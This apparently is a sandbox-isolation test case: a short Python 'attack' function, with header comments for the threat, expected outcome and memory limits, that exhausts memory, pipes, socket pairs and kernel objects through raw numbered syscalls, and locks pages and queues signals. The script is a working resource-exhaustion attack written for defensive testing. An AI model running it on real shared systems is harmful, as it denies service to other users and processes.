# threat: filling what sessions share: memory, descriptors, pipes, processes, locked pages, waiting signals
# expect: nothing
# limits: memory_mb=128 call_seconds=10
import ctypes
import os
import signal
import socket


def attack(target):
    hoard = []
    try:
        while True:
            hoard.append(bytearray(1 << 20))
    except MemoryError:
        hoard.pop()
        hoard.pop()
    opened = []
    try:
        while True:
            opened += os.pipe()
            os.set_blocking(opened[-1], False)
            os.write(opened[-1], b"x" * 65_536)
    except OSError:
        pass
    pair = []
    try:
        while True:
            pair.append(socket.socketpair())
    except OSError:
        pass
    libc = ctypes.CDLL(None)
    # what else takes memory of the kernel's: eventfd, epoll, inotify, memfd, userfaultfd, shared segments, timers, keys
    calls = (284, 290, 213, 291, 253, 294, 319, 323, 29, 68, 64, 222, 283, 248, 425)
    held = [call for call in calls if libc.syscall(call, 0, 1 << 20, 0o1777) >= 0]
    waiting = [pid for pid in (0, os.getpid()) if libc.syscall(234, pid, pid, signal.SIGRTMIN) == 0]
    locked = [call for call in (149, 151, 325) if libc.syscall(call, 3, 4096, 0) == 0]
    return [str(item) for item in (*opened, *pair, *held, *waiting, *locked)]
